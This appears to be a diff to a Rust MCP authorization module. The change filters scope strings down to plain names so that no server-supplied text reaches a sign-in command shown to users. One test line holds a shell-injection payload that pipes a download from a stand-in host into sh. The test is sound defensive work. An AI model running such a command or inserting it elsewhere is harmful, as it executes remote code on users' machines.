@@ -3,13 +3,15 @@
 //! Asked by `caller` when the server refuses a call for it. Whoever calls meanwhile waits for the one sign-in, and gets
 //! its token. Invariants: for the same words a person is asked once, so that no server keeps them busy; where the scope
 //! was given on the command line, it is the most that is ever asked for; what cannot be raised leaves the token that
-//! there is. Specifications: MCP 2026-07-28 authorization, "Scope Challenge Handling"; RFC 6750 §3.1.
+//! there is; a command that people are told to type has nothing of a server's in it but names of scopes, and all of
+//! them. Specifications: MCP 2026-07-28 authorization, "Scope Challenge Handling"; RFC 6750 §3.1.
 
 use std::{collections::BTreeSet, sync::Arc};
 
 use super::{Credentials, Held, Present, Source};
 use crate::{
     fault::{Fault, printable},
+    scope,
     sign_in::Learned,
 };
 
@@ -43,8 +45,9 @@ impl Learned {
     }
 }
 
+/// Names alone: what was kept by an earlier build may hold anything.
 fn words(scope: &str) -> Words {
-    scope.split(' ').filter(|word| !word.is_empty()).map(str::to_owned).collect()
+    scope::names(scope).map(str::to_owned).collect()
 }
 
 fn joined(words: &Words) -> String {
@@ -93,13 +96,15 @@ impl Credentials {
     }
 }
 
-fn refused(fault: Fault, scope: &str) -> Fault {
-    let scope = printable(scope);
+fn refused(fault: Fault, all: &str) -> Fault {
+    let scope = printable(all);
     match fault {
         Fault::Stopping => Fault::Stopping,
         Fault::SignInFirst { .. } => {
-            let why =
-                format!("nobody can be asked here; sign in with --scope '{scope}', and start this bridge with it");
+            // A scope that was cut is another one.
+            let is_whole = scope == all;
+            let with = if is_whole { format!("--scope '{scope}'") } else { "a --scope that has all of it".to_owned() };
+            let why = format!("nobody can be asked here; sign in with {with}, and start this bridge with it");
             Fault::ScopeRefused { scope, why }
         }
         fault => Fault::ScopeRefused { scope, why: fault.to_string() },
@@ -118,6 +123,7 @@ mod tests {
         assert!(asked.is_first(&words("a b")));
         let more = (0..100).filter(|n| asked.is_first(&words(&n.to_string()))).count();
         assert_eq!(more, WISHES_MAX - 1);
+        assert_eq!(joined(&words("'!';curl${IFS}evil.example|sh;' b a")), "a b");
         let many: Words = (0..=WORDS_MAX).map(|n| n.to_string()).collect();
         assert!(!AskedFor::default().is_first(&many));
     }
